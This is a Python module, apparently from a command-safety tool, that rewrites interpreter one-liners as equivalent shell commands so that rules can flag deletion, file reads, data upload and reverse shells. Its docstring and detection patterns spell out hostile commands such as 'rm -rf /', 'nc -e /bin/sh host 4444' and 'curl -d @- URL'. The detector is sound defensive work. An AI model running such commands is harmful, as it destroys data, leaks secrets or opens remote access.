"""Interpreter code seen as the shell commands it amounts to.

`python -c "import shutil; shutil.rmtree('/')"` is `rm -rf /` in another spelling. Python is read
with its own `ast`; Perl, Ruby, Node and PHP by RE2 patterns. Each effect becomes a line of shell
(`rm -rf '/'`, `nc -e /bin/sh host 4444`, `curl -d @- URL`, or the shell string handed to
system()), which the command layer parses again so the same rules judge it.
"""

from __future__ import annotations

import ast
import posixpath
import shlex
from collections.abc import Iterator

from bastion.rules.regexes import compile_regex

DYNAMIC = "$__bastion_dynamic"  # parses as an expansion: the rules see an unknown value

INTERPRETERS = {
    "python": "python", "python2": "python", "python3": "python", "pypy": "python",
    "pypy3": "python", "perl": "perl", "ruby": "ruby", "irb": "ruby", "node": "node",
    "nodejs": "node", "deno": "node", "bun": "node", "php": "php",
}  # fmt: skip

# Options that carry the program text, per language.
CODE_FLAGS = {
    "python": ("-c",),
    "perl": ("-e", "-E"),
    "ruby": ("-e",),
    "node": ("-e", "--eval", "-p", "--print"),
    "php": ("-r",),
}


def language_of(base_name: str | None) -> str | None:
    if base_name is None:
        return None
    if base_name in INTERPRETERS:
        return INTERPRETERS[base_name]
    if base_name.startswith("python") and base_name[6:].replace(".", "").isdigit():
        return "python"
    return None


def shell_lines(language: str, code: str, budget_depth: int = 0) -> list[str]:
    """Shell lines equivalent to what `code` does that the rules care about."""
    if language == "python":
        lines = _python(code, budget_depth)
        if lines is not None:
            return lines
    return list(_patterns(code))


def _q(value: object) -> str:
    return shlex.quote(value) if isinstance(value, str) else DYNAMIC


_PATH_WRAPPERS = frozenset({
    "os.path.expanduser", "expanduser", "os.path.abspath", "abspath", "os.path.realpath",
    "realpath", "os.path.normpath", "normpath", "Path", "pathlib.Path", "PurePath", "str",
    "os.fspath",
})  # fmt: skip
_PATH_METHODS = frozenset({"expanduser", "resolve", "absolute"})


def _const(node: ast.AST | None, depth: int = 0) -> object:
    """A string the code spells out, seen through the path helpers that keep its meaning
    (`os.path.expanduser("~/.ssh/x")`, `Path("a") / "b"`, `os.path.join("a", "b")`)."""
    if node is None or depth > 8:
        return None
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Div):  # Path("a") / "b"
        left, right = _const(node.left, depth + 1), _const(node.right, depth + 1)
        if isinstance(left, str) and isinstance(right, str):
            return posixpath.join(left, right)
    if isinstance(node, ast.Call):
        name = _dotted(node.func)
        if name in ("Path.home", "pathlib.Path.home") and not node.args:
            return "~"
        if name in _PATH_WRAPPERS and len(node.args) == 1:
            return _const(node.args[0], depth + 1)
        if name in ("os.path.join", "posixpath.join") and node.args:
            parts = [_const(a, depth + 1) for a in node.args]
            if all(isinstance(p, str) for p in parts):
                return posixpath.join(*[p for p in parts if isinstance(p, str)])
        if isinstance(node.func, ast.Attribute) and node.func.attr in _PATH_METHODS:
            return _const(node.func.value, depth + 1)
    return None


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return _dotted(node.value) + "." + node.attr
    if isinstance(node, ast.Call):
        return _dotted(node.func) + "()"
    return "?"


_PY_DELETE_TREE = {"shutil.rmtree", "rmtree", "os.removedirs"}
_PY_DELETE = {"os.remove", "os.unlink", "remove", "unlink", "os.rmdir"}
_PY_SHELL = {"os.system", "os.popen", "system", "popen", "commands.getoutput",
             "subprocess.getoutput", "subprocess.getstatusoutput", "pty.spawn"}  # fmt: skip
_PY_SUBPROCESS = {"subprocess.run", "subprocess.call", "subprocess.check_call",
                  "subprocess.check_output", "subprocess.Popen", "run", "call", "check_call",
                  "check_output", "Popen", "os.execv", "os.execvp", "os.execve", "os.execl",
                  "os.execlp", "os.spawnv", "os.spawnvp", "os.posix_spawn",
                  "os.posix_spawnp"}  # fmt: skip
_PY_POST = {"requests.post", "requests.put", "httpx.post", "httpx.put", "urllib.request.urlopen",
            "urlopen", "urllib.request.Request", "Request"}  # fmt: skip


_PY_GET = {"requests.get", "requests.head", "requests.request", "httpx.get", "httpx.head",
           "urllib.request.urlopen", "urlopen", "urllib.request.urlretrieve", "urlretrieve",
           "http.client.HTTPConnection", "HTTPConnection"}  # fmt: skip


def _keyword(call: ast.Call, name: str) -> object:
    return next((_const(k.value) for k in call.keywords if k.arg == name), None)


def _python(code: str, depth: int) -> list[str] | None:
    try:
        tree = ast.parse(code)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return None
    lines: list[str] = []
    has_socket = has_dup = False
    connect_target: tuple[object, object] | None = None
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = _dotted(node.func)
        args = node.args
        first = _const(args[0]) if args else None
        tail = name.rsplit(".", 1)[-1]
        if name in _PY_DELETE_TREE:
            lines.append(f"rm -rf {_q(first)}")
        elif name in _PY_DELETE or (tail in ("unlink", "rmdir") and name.endswith("()." + tail)):
            lines.append(f"rm {_q(first)}" if args else f"rm {DYNAMIC}")
        elif name in _PY_SHELL:
            lines.append(first if isinstance(first, str) else DYNAMIC)
        elif name in _PY_SUBPROCESS:
            lines.append(_python_argv(node, args))
        elif name in ("exec", "eval", "compile") and isinstance(first, str) and depth < 4:
            nested = _python(first, depth + 1)
            lines.extend(nested or [])
        elif name in _PY_POST:
            url = first if isinstance(first, str) else DYNAMIC
            sends = any(k.arg in ("data", "json", "files") for k in node.keywords) or len(args) > 1
            if sends or tail in ("post", "put"):
                lines.append(f"curl -d @- {_q(url)}")
            elif isinstance(first, str):
                lines.append(f"curl {_q(url)}")  # a GET still connects: its host is judged
        elif name in ("os.chmod", "chmod") and len(args) >= 2:
            mode_node = args[1]
            mode_text = (
                oct(mode_node.value)[2:]
                if isinstance(mode_node, ast.Constant) and isinstance(mode_node.value, int)
                else DYNAMIC
            )
            lines.append(f"chmod {mode_text} {_q(first)}")
        elif name in ("open", "io.open") and args:
            mode = _const(args[1]) if len(args) >= 2 else _keyword(node, "mode") or "r"
            if isinstance(mode, str) and any(c in mode for c in "wax+"):
                lines.append(f": > {_q(first)}")
            elif isinstance(first, str):
                lines.append(f"cat {_q(first)}")  # a read: judged as reading that path
        elif tail in ("read_text", "read_bytes") and isinstance(node.func, ast.Attribute):
            path = _const(node.func.value)
            if isinstance(path, str):
                lines.append(f"cat {_q(path)}")
        elif name in _PY_GET and isinstance(first, str):
            lines.append(f"curl {_q(first)}")  # where it connects: the network layer judges it
        elif tail in ("socket", "create_connection") and name.startswith("socket"):
            has_socket = True
            if tail == "create_connection":
                connect_target = _address(args[0] if args else None)
        elif tail == "connect" and args:
            connect_target = _address(args[0])
        elif name in ("os.dup2", "dup2"):
            has_dup = True
    if has_socket and connect_target is not None:
        host, port = connect_target
        shell = "-e /bin/sh " if has_dup or any("sh" in line for line in lines) else ""
        lines.append(f"nc {shell}{_q(host)} {_q(port)}")
    return lines


def _address(node: ast.AST | None) -> tuple[object, object] | None:
    if isinstance(node, ast.Tuple) and len(node.elts) == 2:
        host = _const(node.elts[0])
        port_node = node.elts[1]
        port = str(port_node.value) if isinstance(port_node, ast.Constant) else None
        return host, port
    return None


def _python_argv(call: ast.Call, args: list[ast.expr]) -> str:
    shell = any(
        k.arg == "shell" and isinstance(k.value, ast.Constant) and k.value.value is True
        for k in call.keywords
    )
    if not args:
        return DYNAMIC
    first = args[0]
    if isinstance(first, ast.Constant) and isinstance(first.value, str):
        # subprocess.run("rm -rf /", shell=True) runs a shell; os.execv(path, argv) the argv.
        if shell or len(args) == 1:
            return first.value
        first = args[1]
    if isinstance(first, (ast.List, ast.Tuple)):
        words = [_const(e) for e in first.elts]
        if shell and words and isinstance(words[0], str):
            return words[0]
        return " ".join(_q(w) for w in words)
    return DYNAMIC


# Perl, Ruby, Node, PHP: the calls that run a shell string, delete a tree, or open a socket.
# RE2 has no backreferences, so each quote style is its own alternative.
_STR = r"""(?:'((?:\\.|[^\\'])*)'|"((?:\\.|[^\\"])*)"|`((?:\\.|[^\\`])*)`)"""
_SHELL_CALL = compile_regex(
    r"""\b(?:system|exec|execSync|spawnSync|shell_exec|passthru|popen|proc_open|execFileSync|"""
    r"""spawn|qx)\s*[\(\{\[]?\s*\[?\s*""" + _STR + r"""|%x\(([^)]*)\)|(?:^|[^\w$])`([^`]*)`"""
)
_DELETE_TREE = compile_regex(
    r"""\b(?:rm_rf|rm_r|remove_dir|remove_entry|rmtree|remove_tree|rimraf|rmSync|rmdirSync|"""
    r"""rm|rmdir)\s*\(\s*""" + _STR
)
_DELETE_FILE = compile_regex(
    r"""\b(?:unlink|unlinkSync|File\.delete|rm_f|FileUtils\.rm)\s*\(?\s*(?:glob\s*\(\s*)?""" + _STR
)
_READ_FILE = compile_regex(
    r"""\b(?:readFileSync|readFile|file_get_contents|File\.read|File\.readlines|IO\.read|"""
    r"""IO\.readlines|Files\.readString|Files\.readAllBytes)\s*\(\s*(?:Paths?\.(?:get|of)\s*\(\s*)?"""
    + _STR
)
_SOCKET = compile_regex(
    r"""(?:IO::Socket::INET|TCPSocket\.(?:new|open)|net\.(?:connect|createConnection)|"""
    r"""new\s+net\.Socket|fsockopen|socket_create|\bsocket\s*\()"""
)
_HOST_PORT = compile_regex(r"""['"]([A-Za-z0-9.\-:]+)['"]\s*[,:]\s*['"]?(\d{1,5})""")
_SPAWNS_SHELL = compile_regex(r"""/bin/(?:ba|z|da|k)?sh\b|\bsh\s+-i\b|\bcmd\.exe\b""")


def _first(match: object) -> str:
    groups = match.groups()  # type: ignore[attr-defined]
    return next((g for g in groups if g is not None), "")


def _patterns(code: str) -> Iterator[str]:
    for m in _SHELL_CALL.finditer(code):
        yield _unescape(_first(m))
    for m in _DELETE_TREE.finditer(code):
        yield f"rm -rf {shlex.quote(_first(m))}"
    for m in _DELETE_FILE.finditer(code):
        path = _first(m)
        yield f"rm {path}" if any(c in path for c in "*?") else f"rm {shlex.quote(path)}"
    for m in _READ_FILE.finditer(code):
        yield f"cat {shlex.quote(_first(m))}"  # a read: judged as reading that path
    if _SOCKET.search(code):
        target = _HOST_PORT.search(code)
        host, port = (target.group(1), target.group(2)) if target else ("unknown-host", "0")
        shell = "-e /bin/sh " if _SPAWNS_SHELL.search(code) else ""
        yield f"nc {shell}{shlex.quote(host)} {port}"


def _unescape(text: str) -> str:
    return text.replace("\\'", "'").replace('\\"', '"').replace("\\\\", "\\")
